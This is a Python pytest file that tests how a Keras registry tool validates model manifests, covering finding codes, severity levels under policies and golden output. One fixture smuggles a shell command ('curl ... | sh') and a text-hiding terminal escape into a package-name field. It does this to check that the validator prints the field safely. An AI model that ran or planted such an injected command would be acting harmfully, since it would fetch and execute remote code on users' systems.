"""Tests of what is said about a manifest as a document."""

from __future__ import annotations

from typing import Any

import pytest

from keras_registry.findings import Level, Policy, render_findings
from keras_registry.manifest import read_manifest, validate_reading
from tests.support.golden import check_golden

MINIMAL: dict[str, Any] = {
    "manifest_version": "1.0",
    "generator": "keras-registry 0.1.0",
    "objects": [],
}
HOSTILE = {
    "key": "acme>GatedDense",
    "kind": "layer",
    "distribution": "acme-layers; curl https://example.org | sh\x1b[8m",
}
DOCUMENTS = {
    "M101": None,
    "M102": {**MINIMAL, "weights": {"layers": {"count": -1}}},
    "M103": {**MINIMAL, "manifest_version": "2.0"},
    "M104": {**MINIMAL, "manifest_version": "1.7"},
    "M105": {**MINIMAL, "objects": [HOSTILE], "generator": 7},
}
LEVELS = {
    "M101": "warning note note",
    "M102": "error warning note",
    "M103": "error error error",
    "M104": "note note note",
    "M105": "error warning note",
}


def validate(document: Any, policy: Policy = Policy.COMPATIBLE) -> Any:
    """The findings about a document; None stands for a file without a manifest."""
    return list(validate_reading(None if document is None else read_manifest(document), policy))


def test_good_manifest_needs_no_word() -> None:
    """There is nothing to say about a manifest of this version."""
    assert validate(MINIMAL) == []


@pytest.mark.parametrize("code", DOCUMENTS)
def test_each_situation_has_one_finding(code: str) -> None:
    """Each way in which a manifest can be wrong has its own finding, with its own words."""
    (finding,) = validate(DOCUMENTS[code])

    assert finding.code == code
    check_golden(f"manifest_{code}", render_findings("churn.keras", [finding]))


@pytest.mark.parametrize("code", DOCUMENTS)
def test_the_policy_gives_the_level(code: str) -> None:
    """How much each situation matters depends on the policy in force."""
    found = [validate(DOCUMENTS[code], policy)[0].level for policy in Policy]

    assert " ".join(found) == LEVELS[code]


def test_a_name_that_is_none_speaks_for_all_problems() -> None:
    """Of several problems the hostile one is shown, safe to print and without a command."""
    (finding,) = validate(DOCUMENTS["M105"])

    assert finding.location == "/objects/0/distribution"
    assert "and 1 more" in finding.found
    assert finding.hint is None
    assert "\x1b" not in render_findings("churn.keras", [finding])


def test_a_newer_minor_version_with_problems_is_both() -> None:
    """A manifest that is newer and broken says both: the one may explain the other."""
    findings = validate({**MINIMAL, "manifest_version": "1.7", "objects": {}})

    assert [(finding.code, finding.level) for finding in findings] == [
        ("M104", Level.NOTE),
        ("M102", Level.WARNING),
    ]
